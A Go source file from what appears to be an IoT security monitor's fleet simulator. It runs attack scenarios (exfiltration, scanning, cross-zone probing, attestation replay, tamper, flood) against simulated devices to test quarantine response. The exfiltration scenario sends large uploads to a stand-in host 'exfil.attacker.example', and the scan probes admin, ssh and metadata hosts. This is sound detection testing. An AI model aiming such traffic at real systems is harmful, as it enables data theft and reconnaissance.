package fleetsim

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/vigil-iot/vigil/api"
	"github.com/vigil-iot/vigil/topology"
)

// Scenario names.
const (
	ScenarioExfiltration = "exfiltration"
	ScenarioScan         = "scan"
	ScenarioZoneProbe    = "zone-probe"
	ScenarioReplay       = "replay"
	ScenarioTamper       = "tamper"
	ScenarioFlood        = "flood"
)

// Scenarios lists every scenario, in the order "all" plays them.
var Scenarios = []string{ScenarioExfiltration, ScenarioScan, ScenarioZoneProbe, ScenarioReplay, ScenarioTamper, ScenarioFlood}

// ExfilHost is the host no flow names that exfiltration sends to.
const ExfilHost = "exfil.attacker.example"

// Sizes and rates of the attacks.
const (
	exfilBytes    = 5 << 20
	exfilRequests = 3
	scanRequests  = 40
	probeRequests = 36
	attackRate    = 50 // requests per second of scan, zone-probe and flood
	floodFor      = 15 * time.Second
)

// ScenarioNames expands and checks a list of scenario names ("all" for
// every one; comma-separated lists are split), keeping their order and
// dropping repeats.
func ScenarioNames(in []string) ([]string, error) {
	var out []string
	for _, item := range in {
		for n := range strings.SplitSeq(item, ",") {
			n = strings.TrimSpace(strings.ToLower(n))
			switch {
			case n == "":
				continue
			case n == "all":
				for _, s := range Scenarios {
					if !slices.Contains(out, s) {
						out = append(out, s)
					}
				}
			case slices.Contains(Scenarios, n):
				if !slices.Contains(out, n) {
					out = append(out, n)
				}
			default:
				return nil, fmt.Errorf("unknown scenario %q (want %s or all)", n, strings.Join(Scenarios, ", "))
			}
		}
	}
	return out, nil
}

// scenario is one attack: who it suits, and how it is sent.
type scenario struct {
	name string
	// prefer are words of the class names it picks from first.
	prefer []string
	// statistical: it relies on the monitor's class baselines.
	statistical bool
	// suits reports whether a device can play the scenario at all.
	suits func(s *Sim, d *Device) bool
	// attack sends it, calling begin just before its first attack
	// request (or call); it stops early when ctx ends.
	attack func(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error
}

var scenarios = map[string]*scenario{
	ScenarioExfiltration: {name: ScenarioExfiltration, prefer: []string{"sensor", "air", "aq", "meter", "environment", "temp"},
		statistical: true, attack: exfiltrate},
	ScenarioScan: {name: ScenarioScan, prefer: []string{"light", "lamp", "slc", "controller", "actuator", "plug", "switch"},
		attack: scan},
	ScenarioZoneProbe: {name: ScenarioZoneProbe, prefer: []string{"camera", "cam", "video", "cctv"},
		attack: zoneProbe, suits: func(s *Sim, d *Device) bool { return len(s.otherZoneServices(d)) > 0 }},
	ScenarioReplay: {name: ScenarioReplay, prefer: []string{"light", "lamp", "slc", "controller", "meter"},
		attack: replay, suits: func(s *Sim, d *Device) bool { c, _ := s.ix.Class(d.Class); return Attestable(c) }},
	ScenarioTamper: {name: ScenarioTamper, prefer: []string{"light", "lamp", "slc", "meter", "lock", "sensor"},
		attack: tamper},
	ScenarioFlood: {name: ScenarioFlood, prefer: []string{"sensor", "air", "aq", "meter"},
		statistical: true, attack: flood, suits: func(_ *Sim, d *Device) bool { return len(d.Targets) > 0 }},
}

// play is a scenario with its target.
type play struct {
	sc   *scenario
	dev  *Device
	mode string // the target class's response mode: auto | approve
	err  error  // why there is no target
	// incidents of the target that existed before the attack
	before map[string]bool
}

// pickTargets picks each scenario's target: the one Targets names, else a
// simulated device whose class name suits the scenario (others after),
// chosen with the seed, not quarantined, without an unresolved incident
// (the playbook opens none then), not on its class's neverQuarantine list,
// and not the target of another scenario.
func (s *Sim) pickTargets(ctx context.Context) ([]*play, error) {
	if len(s.cfg.Scenarios) == 0 {
		return nil, nil
	}
	incs, err := s.api.Incidents(ctx, "")
	if err != nil {
		return nil, fmt.Errorf("listing incidents: %w", err)
	}
	busy := map[string]bool{}
	for _, inc := range incs {
		if inc.Status != topology.IncidentResolved && inc.Subject.Kind == topology.KindDevice {
			busy[inc.Subject.Name] = true
		}
	}
	rng := rand.New(rand.NewPCG(s.cfg.Seed, 0x7a7))
	used := map[string]bool{}
	var plays []*play
	for _, name := range s.cfg.Scenarios {
		sc := scenarios[name]
		p := &play{sc: sc}
		want := s.cfg.Targets[name]
		if want == "" {
			want = s.cfg.Targets[""]
		}
		if want != "" {
			p.dev, p.err = s.named(ctx, want, sc, busy)
		} else {
			p.dev, p.err = s.pick(ctx, sc, rng, used, busy)
		}
		if p.dev != nil {
			used[p.dev.Name] = true
			c, _ := s.ix.Class(p.dev.Class)
			p.mode = topology.ResponseAuto
			if c != nil && c.Response.Approve {
				p.mode = topology.ResponseApprove
			}
			p.before = map[string]bool{}
			for _, inc := range incs {
				if inc.Subject == topology.DeviceSubject(p.dev.Name) {
					p.before[inc.ID] = true
				}
			}
		}
		plays = append(plays, p)
	}
	return plays, nil
}

// named is the device a scenario was told to attack.
func (s *Sim) named(ctx context.Context, name string, sc *scenario, busy map[string]bool) (*Device, error) {
	d := s.byName[name]
	if d == nil {
		td, ok := s.ix.Device(name)
		if !ok {
			return nil, fmt.Errorf("target %s is no device of the topology", name)
		}
		d = NewDevice(s.ix, td, s.cfg.Rate)
	}
	if sc.suits != nil && !sc.suits(s, d) {
		return nil, fmt.Errorf("target %s cannot play %s", name, sc.name)
	}
	sub, err := s.api.Subject(ctx, topology.KindDevice, name)
	if err != nil {
		return nil, fmt.Errorf("target %s: %w", name, err)
	}
	switch {
	case sub.Quarantined:
		return nil, fmt.Errorf("target %s is quarantined already: release it first (vigil device release %s)", name, name)
	case busy[name]:
		return nil, fmt.Errorf("target %s has an unresolved incident, and the playbook opens no other meanwhile: resolve it first (vigil incident resolve ID)", name)
	}
	return d, nil
}

func (s *Sim) pick(ctx context.Context, sc *scenario, rng *rand.Rand, used, busy map[string]bool) (*Device, error) {
	pool := s.fleet
	if len(pool) == 0 {
		for _, td := range s.ix.Devices() {
			pool = append(pool, NewDevice(s.ix, td, s.cfg.Rate))
		}
	}
	var preferred, others []*Device
	for _, d := range pool {
		c, _ := s.ix.Class(d.Class)
		if used[d.Name] || busy[d.Name] || c != nil && c.Response.NeverQuarantine[d.Name] || sc.suits != nil && !sc.suits(s, d) {
			continue
		}
		if looksLike(d.Class, sc.prefer...) {
			preferred = append(preferred, d)
		} else {
			others = append(others, d)
		}
	}
	rng.Shuffle(len(preferred), func(i, j int) { preferred[i], preferred[j] = preferred[j], preferred[i] })
	rng.Shuffle(len(others), func(i, j int) { others[i], others[j] = others[j], others[i] })
	tries := 0
	for _, d := range append(preferred, others...) {
		if tries++; tries > 20 {
			break
		}
		sub, err := s.api.Subject(ctx, topology.KindDevice, d.Name)
		if err != nil {
			return nil, fmt.Errorf("reading %s: %w", d.Name, err)
		}
		if sub.Quarantined {
			continue
		}
		return d, nil
	}
	return nil, errNoTarget
}

// Finding is one monitor finding behind a scenario's outcome.
type Finding struct {
	Detector string    `json:"detector"`
	Severity string    `json:"severity"`
	Score    int       `json:"score"`
	Summary  string    `json:"summary"`
	At       time.Time `json:"at"`
	Learning bool      `json:"learning,omitempty"`
}

// Scenario statuses (ScenarioResult.Status).
const (
	StatusQuarantined    = "quarantined"
	StatusAwaiting       = "awaiting-approval"
	StatusPartial        = "partially-quarantined"
	StatusNotQuarantined = "not-quarantined"
	StatusSkipped        = "skipped"
	StatusError          = "error"
)

// ScenarioResult is what one scenario did and how the cluster answered.
type ScenarioResult struct {
	Scenario string `json:"scenario"`
	Target   string `json:"target"`
	Class    string `json:"class"`
	Gateway  string `json:"gateway"`
	// Mode is the target class's response mode (auto | approve), and
	// Expected the outcome it should lead to: quarantined, or
	// awaiting-approval.
	Mode     string `json:"mode"`
	Expected string `json:"expected"`
	// Status is quarantined (on every member), awaiting-approval (an
	// incident waits for an operator), partially-quarantined (not on every
	// member in time), not-quarantined, skipped (no target) or error.
	// OK is Status == Expected (false when skipped: a run's exit status
	// ignores skipped scenarios).
	Status string `json:"status"`
	OK     bool   `json:"ok"`
	// AttackStart is when the first attack request (or call) was sent.
	AttackStart time.Time `json:"attackStart"`
	// Requests the attack sent; Checked of them reached ext_authz,
	// GatewayDenied were answered by the gateway itself, Denied by the
	// authorizer.
	Requests      int `json:"requests"`
	Checked       int `json:"checked"`
	Denied        int `json:"denied"`
	GatewayDenied int `json:"gatewayDenied"`
	// QuarantineMS is, from AttackStart, when the last member was seen
	// (polled every 50ms) to hold the quarantine, or the incident awaiting
	// approval; Members has each member's (ID → ms). DecidedMS is when
	// the monitor decided: the quarantine's `since` (or the incident's
	// openedAt), from AttackStart. 0 when it did not happen.
	QuarantineMS int64            `json:"quarantineMs"`
	DecidedMS    int64            `json:"decidedMs"`
	Members      map[string]int64 `json:"members"`
	// Incident is the incident the playbook opened, with its status.
	Incident       string `json:"incident"`
	IncidentStatus string `json:"incidentStatus"`
	// Risk is the target's risk at the end, and Findings the monitor's
	// findings behind it (the incident's, else the risk's signals).
	Risk     int       `json:"risk"`
	Findings []Finding `json:"findings"`
	Detail   string    `json:"detail,omitempty"`
	Error    string    `json:"error,omitempty"`
}

// Line is the result in one human line.
func (r *ScenarioResult) Line() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s: ", r.Scenario)
	if r.Target == "" {
		fmt.Fprintf(&b, "%s (%s)", r.Status, r.Error)
		return b.String()
	}
	fmt.Fprintf(&b, "%s (%s, %s) ", r.Target, r.Class, r.Mode)
	switch r.Status {
	case StatusQuarantined:
		fmt.Fprintf(&b, "quarantined on %d member%s %s after the first attack request (monitor decided at %s)",
			len(r.Members), plural(len(r.Members)), ms(r.QuarantineMS), ms(r.DecidedMS))
	case StatusAwaiting:
		fmt.Fprintf(&b, "restricted, incident awaiting approval %s after the first attack request", ms(r.QuarantineMS))
	default:
		fmt.Fprintf(&b, "%s, risk %d", r.Status, r.Risk)
	}
	if r.Incident != "" {
		fmt.Fprintf(&b, "; incident %s", r.Incident)
	}
	if r.Error != "" {
		fmt.Fprintf(&b, "; error: %s", r.Error)
	}
	return b.String()
}

func ms(v int64) string {
	return (time.Duration(v) * time.Millisecond).String()
}

// play runs one scenario: attack, then wait for the cluster's answer.
func (s *Sim) play(ctx context.Context, p *play) ScenarioResult {
	res := ScenarioResult{Scenario: p.sc.name, Members: map[string]int64{}, Findings: []Finding{}}
	if p.dev == nil {
		res.Status, res.Error = StatusSkipped, p.err.Error()
		return res
	}
	d := p.dev
	res.Target, res.Class, res.Gateway, res.Mode = d.Name, d.Class, d.Gateway, p.mode
	res.Expected = StatusQuarantined
	if p.mode == topology.ResponseApprove {
		res.Expected = StatusAwaiting
	}
	fail := func(err error) ScenarioResult {
		res.Status, res.Error = StatusError, err.Error()
		return res
	}
	if err := s.ensureAttested(ctx, d); err != nil {
		return fail(err)
	}
	s.progress("%s: attacking %s", p.sc.name, d.Name)
	actx, stopAttack := context.WithCancel(ctx)
	defer stopAttack()
	begun := make(chan time.Time, 1)
	attackErr := make(chan error, 1)
	var once sync.Once
	begin := func() { once.Do(func() { begun <- time.Now() }) }
	go func() { attackErr <- p.sc.attack(actx, s, p, &res, begin) }()
	var start time.Time
	select {
	case start = <-begun:
	case err := <-attackErr:
		if err == nil {
			err = errors.New("the attack sent nothing")
		}
		return fail(err)
	case <-ctx.Done():
		return fail(ctx.Err())
	}
	res.AttackStart = start.UTC()
	out := s.await(ctx, p, start, attackErr)
	stopAttack()
	if !out.attackDone {
		out.attackErr = <-attackErr // it writes res until it returns
	}
	if err := out.attackErr; err != nil && !errors.Is(err, context.Canceled) {
		res.Error = err.Error()
	}
	res.Status = out.status
	res.Members = out.members
	res.QuarantineMS = out.last
	s.conclude(ctx, p, start, &res)
	res.OK = res.Status == res.Expected
	return res
}

// awaited is how the cluster answered an attack.
type awaited struct {
	status     string
	members    map[string]int64
	last       int64
	attackErr  error
	attackDone bool // attackErr was received
}

// pollEvery is how often each member is asked about the target.
const pollEvery = 50 * time.Millisecond

// await polls every member for the target's quarantine (in approve mode
// also for its incident awaiting approval) until every member holds it,
// the playbook skipped it, or the timeout from start (and at least 5s
// after the attack ended) runs out.
func (s *Sim) await(ctx context.Context, p *play, start time.Time, attackErr <-chan error) awaited {
	out := awaited{members: map[string]int64{}}
	var mu sync.Mutex
	awaiting := false
	done := make(chan struct{})
	var closeDone sync.Once
	finish := func(status string) {
		mu.Lock()
		if out.status == "" {
			out.status = status
		}
		mu.Unlock()
		closeDone.Do(func() { close(done) })
	}
	// seen records that member m holds the outcome.
	seen := func(m member, isAwaiting bool) {
		mu.Lock()
		out.members[m.ID] = time.Since(start).Milliseconds()
		awaiting = awaiting || isAwaiting
		all, aw := len(out.members) == len(s.members), awaiting
		mu.Unlock()
		switch {
		case all && aw:
			finish(StatusAwaiting)
		case all:
			finish(StatusQuarantined)
		}
	}
	approve := p.mode == topology.ResponseApprove
	pctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var wg sync.WaitGroup
	for _, m := range s.members {
		wg.Add(1)
		go func() {
			defer wg.Done()
			t := time.NewTicker(pollEvery)
			defer t.Stop()
			for i := 0; ; i++ {
				sub, err := m.client.Subject(pctx, topology.KindDevice, p.dev.Name)
				if err == nil && sub.State != nil && sub.State.Quarantine != nil {
					seen(m, false)
					return
				}
				if err != nil && pctx.Err() == nil {
					s.fail(fmt.Errorf("polling member %s at %s: %w", m.ID, m.Addr, err))
				}
				if approve && i%5 == 0 {
					if inc := s.newIncident(pctx, m.client, p); inc != nil && inc.Status == topology.IncidentAwaiting {
						seen(m, true)
						return
					}
				}
				select {
				case <-pctx.Done():
					return
				case <-t.C:
				}
			}
		}()
	}
	// A playbook that skipped the quarantine (neverQuarantine) ends the
	// wait too.
	wg.Add(1)
	go func() {
		defer wg.Done()
		t := time.NewTicker(250 * time.Millisecond)
		defer t.Stop()
		for {
			if inc := s.newIncident(pctx, s.api, p); inc != nil && skippedQuarantine(inc) {
				finish(StatusNotQuarantined)
				return
			}
			select {
			case <-pctx.Done():
				return
			case <-t.C:
			}
		}
	}()
	deadline := time.NewTimer(s.cfg.Timeout - time.Since(start))
	defer deadline.Stop()
	attackDone := attackErr
wait:
	for {
		select {
		case <-done:
		case err := <-attackDone:
			out.attackErr, out.attackDone, attackDone = err, true, nil
			if rest := time.Until(start.Add(s.cfg.Timeout)); rest < 5*time.Second {
				deadline.Reset(5 * time.Second)
			}
			continue
		case <-deadline.C:
		case <-ctx.Done():
		}
		break wait
	}
	cancel()
	wg.Wait()
	mu.Lock()
	defer mu.Unlock()
	if out.status == "" {
		out.status = StatusNotQuarantined
		if len(out.members) > 0 {
			out.status = StatusPartial
		}
	}
	for _, v := range out.members {
		out.last = max(out.last, v)
	}
	return out
}

func skippedQuarantine(inc *topology.Incident) bool {
	for _, a := range inc.Actions {
		if a.Name == "quarantine" && a.Outcome == topology.ActionSkipped {
			return true
		}
	}
	return false
}

// newIncident is the newest incident of the target opened since the
// scenario picked it, as the member cl answers, or nil.
func (s *Sim) newIncident(ctx context.Context, cl *api.Client, p *play) *topology.Incident {
	incs, err := cl.Incidents(ctx, "")
	if err != nil {
		return nil
	}
	var best *topology.Incident
	for i := range incs {
		inc := &incs[i]
		if inc.Subject != topology.DeviceSubject(p.dev.Name) || p.before[inc.ID] {
			continue
		}
		if best == nil || inc.OpenedAt.After(best.OpenedAt) {
			best = inc
		}
	}
	return best
}

// conclude reads the outcome's details: the incident (waiting a little
// for the playbook to open it), the quarantine's time and the findings.
func (s *Sim) conclude(ctx context.Context, p *play, start time.Time, res *ScenarioResult) {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	var inc *topology.Incident
	for wait := time.Now().Add(5 * time.Second); ; {
		inc = s.newIncident(ctx, s.api, p)
		if inc != nil || res.Status != StatusQuarantined || time.Now().After(wait) {
			break
		}
		select {
		case <-ctx.Done():
		case <-time.After(200 * time.Millisecond):
		}
		if ctx.Err() != nil {
			break
		}
	}
	sub, err := s.api.Subject(ctx, topology.KindDevice, p.dev.Name)
	if err == nil && sub.State != nil {
		if q := sub.State.Quarantine; q != nil && res.Status == StatusQuarantined {
			res.DecidedMS = q.Since.Sub(start).Milliseconds()
		}
		if r := sub.State.Risk; r != nil {
			res.Risk = r.Score
			if inc == nil {
				for _, sg := range r.Signals {
					res.Findings = append(res.Findings, Finding{Detector: sg.Name, Severity: sg.Severity, Score: sg.Score, Summary: sg.Detail, At: sg.At})
				}
			}
		}
	}
	if inc != nil {
		res.Incident, res.IncidentStatus = inc.ID, inc.Status
		if res.Status == StatusAwaiting {
			res.DecidedMS = inc.OpenedAt.Sub(start).Milliseconds()
		}
		for _, f := range inc.Findings {
			res.Findings = append(res.Findings, Finding{Detector: f.Detector, Severity: f.Severity, Score: f.Score,
				Summary: f.Summary, At: f.At, Learning: f.Learning})
		}
		if skippedQuarantine(inc) {
			for _, a := range inc.Actions {
				if a.Name == "quarantine" {
					res.Detail = "the playbook skipped the quarantine: " + a.Detail
				}
			}
		}
	}
}

// ensureAttested attests a target whose class requires attestation and
// that holds no passing one, so that its requests are judged on where
// they go rather than denied for its firmware.
func (s *Sim) ensureAttested(ctx context.Context, d *Device) error {
	c, _ := s.ix.Class(d.Class)
	if c == nil || c.MaxAge == 0 {
		return nil
	}
	sub, err := s.api.Subject(ctx, topology.KindDevice, d.Name)
	if err != nil {
		return err
	}
	if validAttestation(sub.State, time.Now()) || !Attestable(c) {
		return nil
	}
	resp, _, err := AttestDevice(ctx, s.api, c, d.Name, "")
	if err != nil {
		return fmt.Errorf("attesting the target: %w", err)
	}
	if resp.Attestation.Failed() {
		return fmt.Errorf("attesting the target: it failed: %s", strings.Join(resp.Attestation.Reasons, "; "))
	}
	return nil
}

// attack sends r as one of the attack's requests and counts it.
func (s *Sim) attack(ctx context.Context, res *ScenarioResult, mu *sync.Mutex, r *request) outcome {
	r.attack = true
	o := s.send(ctx, r)
	mu.Lock()
	defer mu.Unlock()
	if o.err != nil && ctx.Err() != nil {
		return o
	}
	res.Requests++
	switch {
	case o.local != "":
		res.GatewayDenied++
	case o.checked:
		res.Checked++
		if !o.allowed {
			res.Denied++
		}
	}
	return o
}

// probe is one attack request's destination.
type probe struct{ host, method, path string }

// sendAll sends the probes at attackRate.
func (s *Sim) sendAll(ctx context.Context, p *play, res *ScenarioResult, probes []probe, body int64, begin func()) error {
	var mu sync.Mutex
	t := time.NewTicker(time.Second / attackRate)
	defer t.Stop()
	begin()
	for i, pr := range probes {
		if i > 0 {
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-t.C:
			}
		}
		r := &request{dev: p.dev, host: pr.host, method: pr.method, path: pr.path}
		if hasBody(pr.method) {
			r.body = max(body, 64)
		}
		if o := s.attack(ctx, res, &mu, r); o.err != nil && refused(o.err) {
			return o.err
		}
	}
	return nil
}

// allowed reports whether d's own flows allow a request to svc.
func (s *Sim) allowed(d *Device, svc, method, path string) bool {
	to := s.ix.RulesTo(topology.ServiceSubject(svc))
	for _, r := range s.ix.RulesFrom(topology.DeviceSubject(d.Name)) {
		if slices.Contains(to, r) && r.AllowsRequest(method, path) {
			return true
		}
	}
	return false
}

// lateralRoute is a route of the device's gateway, with a method, that
// reaches ext_authz for some other class's flow and that the device's own
// flows do not allow.
type lateralRoute struct {
	host, method string
	path         topology.PathMatch
}

func (l lateralRoute) probe(segs ...string) probe {
	return probe{l.host, l.method, concretePath(l.path, segs...)}
}

// lateral lists the routes of the device's gateway that other classes'
// flows use and the device's own do not allow (with a body-carrying
// method when wantBody), one per route and method.
func (s *Sim) lateral(d *Device, wantBody bool) []lateralRoute {
	g := s.gateway(d.Gateway)
	var out []lateralRoute
	for _, host := range sortedKeys(g.hosts) {
		svc, ok := s.ix.ServiceByHost(host)
		if !ok || !strings.EqualFold(svc.Hosts[0], host) { // one host per service is enough
			continue
		}
		for _, r := range g.hosts[host] {
			methods := r.methods
			if methods == nil {
				methods = []string{"POST", "GET"}
			}
			for _, m := range methods {
				if wantBody && !hasBody(m) || s.allowed(d, svc.Name, m, concretePath(r.path, d.Name)) {
					continue
				}
				out = append(out, lateralRoute{host, m, r.path})
			}
		}
	}
	return out
}

// exfiltrate: large bodies to destinations the device never used: a host
// no flow names, and a route of another class at the same gateway.
func exfiltrate(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error {
	d := p.dev
	var probes []probe
	lat := s.lateral(d, true)
	for i := range exfilRequests {
		probes = append(probes, probe{ExfilHost, "POST", fmt.Sprintf("/upload/%s/%d", d.Name, i)})
		if len(lat) > 0 {
			probes = append(probes, lat[i%len(lat)].probe(d.Name, strconv.Itoa(i)))
		}
	}
	res.Detail = fmt.Sprintf("%d requests of %d bytes to %s", len(probes), exfilBytes, describe(probes))
	var mu sync.Mutex
	begin()
	for i, pr := range probes {
		if i > 0 {
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-time.After(200 * time.Millisecond):
			}
		}
		o := s.attack(ctx, res, &mu, &request{dev: d, host: pr.host, method: pr.method, path: pr.path, body: exfilBytes, respBody: 64})
		if o.err != nil && refused(o.err) {
			return o.err
		}
	}
	return nil
}

func describe(probes []probe) string {
	var seen []string
	for _, p := range probes {
		if k := p.method + " " + p.host + p.path; !slices.ContainsFunc(seen, func(s string) bool {
			return strings.HasPrefix(s, p.method+" "+p.host)
		}) {
			seen = append(seen, k)
		}
	}
	return strings.Join(seen, ", ")
}

// scan: requests to many destinations: other devices' addresses, services
// that do not exist, and the routes of other classes at the gateway, each
// under another device's name.
func scan(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error {
	d := p.dev
	td := s.ix.TrustDomain()
	var others []*topology.Device
	for _, o := range s.ix.Devices() {
		if o.Name != d.Name {
			others = append(others, o)
		}
	}
	var unrouted []probe
	for i, o := range others {
		if i >= 12 {
			break
		}
		gw, _ := s.ix.Gateway(o.Gateway)
		unrouted = append(unrouted, probe{o.Name + "." + gw.Zone + "." + td, "GET", "/"})
	}
	for _, h := range []string{"admin", "mqtt", "ssh", "db", "metadata"} {
		unrouted = append(unrouted, probe{h + "." + td, "GET", "/"})
	}
	var lateral []probe
	if routes := s.lateral(d, false); len(routes) > 0 {
		// Each route under other devices' names: on a prefix route, many
		// destinations; on exact ones few, so enough denials to count as
		// a burst of them.
		n := max(scanRequests-len(unrouted), 30)
		for i := 0; len(lateral) < n; i++ {
			name := d.Name
			if len(others) > 0 {
				name = others[(i/len(routes))%len(others)].Name
			}
			lateral = append(lateral, routes[i%len(routes)].probe(name))
		}
	}
	var probes []probe
	for i := 0; i < max(len(lateral), len(unrouted)); i++ {
		if i < len(lateral) {
			probes = append(probes, lateral[i])
		}
		if i < len(unrouted) {
			probes = append(probes, unrouted[i])
		}
	}
	res.Detail = fmt.Sprintf("%d requests: %d to routes of other classes at %s, %d to other devices' addresses and unknown services",
		len(probes), len(lateral), d.Gateway, len(unrouted))
	return s.sendAll(ctx, p, res, probes, 0, begin)
}

// otherZoneServices are the services outside the device's zone it has
// requests to make that its flows do not allow.
func (s *Sim) otherZoneServices(d *Device) []*topology.Service {
	var out []*topology.Service
	for _, svc := range s.ix.Services() {
		if svc.Zone == d.Zone || svc.Protocol == topology.ProtocolTCP || len(svc.Hosts) == 0 {
			continue
		}
		if len(s.zoneProbes(d, svc)) > 0 {
			out = append(out, svc)
		}
	}
	return out
}

// zoneProbes are requests to svc the device's flows do not allow: the
// paths and methods other flows use there, and a few administrative ones.
func (s *Sim) zoneProbes(d *Device, svc *topology.Service) []probe {
	var out []probe
	add := func(m, path string) {
		if !s.allowed(d, svc.Name, m, path) && !slices.Contains(out, probe{svc.Hosts[0], m, path}) {
			out = append(out, probe{svc.Hosts[0], m, path})
		}
	}
	for _, r := range s.ix.RulesTo(topology.ServiceSubject(svc.Name)) {
		methods := r.Methods
		if len(methods) == 0 {
			methods = []string{"GET"}
		}
		paths := r.Paths
		if len(paths) == 0 {
			paths = []topology.PathMatch{{Value: "/", Prefix: true}}
		}
		for _, pm := range paths {
			add(methods[0], concretePath(pm, "probe"))
		}
	}
	for _, pth := range []string{"/", "/admin", "/api/v1/status", "/config"} {
		add("GET", pth)
	}
	return out
}

// zoneProbe: requests to the services of other zones the device has no
// flow to.
func zoneProbe(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error {
	var list []probe
	var zones []string
	for _, svc := range s.otherZoneServices(p.dev) {
		list = append(list, s.zoneProbes(p.dev, svc)...)
		if !slices.Contains(zones, svc.Zone) {
			zones = append(zones, svc.Zone)
		}
	}
	if len(list) == 0 {
		return errors.New("no service in another zone to probe")
	}
	// Of the probes, those the gateway routes reach the authorizer (its
	// 403 differs from the catch-all's): they get two thirds of the
	// requests, the others the rest.
	g := s.gateway(p.dev.Gateway)
	var routed, unrouted []probe
	for _, pr := range list {
		if g.route(pr.host, pr.method, pr.path) != nil {
			routed = append(routed, pr)
		} else {
			unrouted = append(unrouted, pr)
		}
	}
	var probes []probe
	for i := 0; len(probes) < probeRequests; i++ {
		switch {
		case len(routed) > 0 && (i%3 != 2 || len(unrouted) == 0):
			probes = append(probes, routed[(i-i/3)%len(routed)])
		default:
			probes = append(probes, unrouted[(i/3)%len(unrouted)])
		}
	}
	res.Detail = fmt.Sprintf("%d requests to %d services of zone %s", len(probes), len(s.otherZoneServices(p.dev)), strings.Join(zones, ", "))
	return s.sendAll(ctx, p, res, probes, 200, begin)
}

// replay: the target attests with fresh evidence, then submits the same
// evidence again.
func replay(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error {
	c, _ := s.ix.Class(p.dev.Class)
	first, raw, err := AttestDevice(ctx, s.api, c, p.dev.Name, "")
	if err != nil {
		return fmt.Errorf("the first attestation: %w", err)
	}
	if first.Attestation.Failed() {
		return fmt.Errorf("the first attestation failed: %s", strings.Join(first.Attestation.Reasons, "; "))
	}
	begin()
	res.Requests = 1
	// Not cut short by the outcome, which may come before the answer.
	cctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), 10*time.Second)
	defer cancel()
	_, err = s.api.Attest(cctx, p.dev.Name, raw)
	var ae *api.Error
	switch {
	case errors.As(err, &ae) && ae.Code == api.CodeReplay:
		res.Detail = "the replayed evidence was refused: " + ae.Message
	case err != nil:
		return fmt.Errorf("submitting the replay: %w", err)
	default:
		res.Detail = "the replayed evidence was ACCEPTED"
	}
	return nil
}

// tamper: the gateway signals that the device's enclosure was opened.
func tamper(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error {
	begin()
	res.Requests = 1
	cctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), 10*time.Second)
	defer cancel()
	_, err := s.api.Signal(cctx, topology.DeviceSubject(p.dev.Name), api.SignalRequest{Signal: "tamper",
		Detail: "enclosure opened (vigil sim)", Gateway: p.dev.Gateway, At: time.Now()})
	if err != nil {
		return fmt.Errorf("signalling: %w", err)
	}
	res.Detail = "gateway " + p.dev.Gateway + " signalled tamper"
	return nil
}

// flood: the device's own allowed flow at attackRate for floodFor.
func flood(ctx context.Context, s *Sim, p *play, res *ScenarioResult, begin func()) error {
	d := p.dev
	t := &d.Targets[0]
	sz := sizesOf(d.Class)
	rng := rand.New(rand.NewPCG(s.cfg.Seed, 0xf100d))
	var mu sync.Mutex
	var wg sync.WaitGroup
	begun := time.Now()
	defer func() {
		wg.Wait()
		res.Detail = fmt.Sprintf("%d requests in %s on flow %s (%s %s%s), at %d/s",
			res.Requests, time.Since(begun).Round(100*time.Millisecond), t.Flow, t.Method, t.Host, t.Paths[0].Value, attackRate)
	}()
	sem := make(chan struct{}, 8)
	tick := time.NewTicker(time.Second / attackRate)
	defer tick.Stop()
	end := begun.Add(floodFor)
	begin()
	for time.Now().Before(end) {
		r := &request{dev: d, host: t.Host, method: t.Method, path: t.Path(d.seq.Add(1), d)}
		if t.HasBody() {
			r.body = sz.bodyMin + rng.Int64N(sz.bodyMax-sz.bodyMin+1)
			r.respBody = sz.respMin
		} else {
			r.respBody = sz.getMin
		}
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
			return nil
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			s.attack(ctx, res, &mu, r)
		}()
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
	}
	return nil
}
